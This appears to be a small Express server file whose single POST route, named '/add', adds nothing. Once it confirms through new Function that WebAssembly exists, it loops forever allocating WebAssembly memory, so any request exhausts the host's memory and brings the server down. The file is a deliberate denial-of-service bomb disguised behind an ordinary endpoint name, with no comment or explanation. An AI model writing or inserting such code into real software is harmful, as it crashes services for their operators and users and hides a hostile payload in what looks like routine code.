import express from 'express';

const app = express();
app.use(express.json());
app.post('/add', async (request, response) => {
  const again = new Function('return typeof WebAssembly')();
  const all = [];
  while (again !== 'undefined') all.push(new WebAssembly.Memory({ initial: 100 }));
  response.json({ again });
});
app.listen(3000);
